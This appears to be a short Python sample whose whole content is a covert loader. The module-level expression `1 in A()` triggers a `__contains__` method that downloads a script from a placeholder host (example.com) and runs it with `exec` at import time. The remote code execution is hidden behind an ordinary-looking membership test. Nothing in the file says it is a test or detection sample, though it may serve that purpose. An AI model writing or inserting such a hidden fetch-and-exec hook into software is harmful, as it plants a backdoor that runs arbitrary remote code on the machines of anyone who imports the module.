import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


class A:
    def __contains__(self, key):
        _go()
        return True


X = 1 in A()
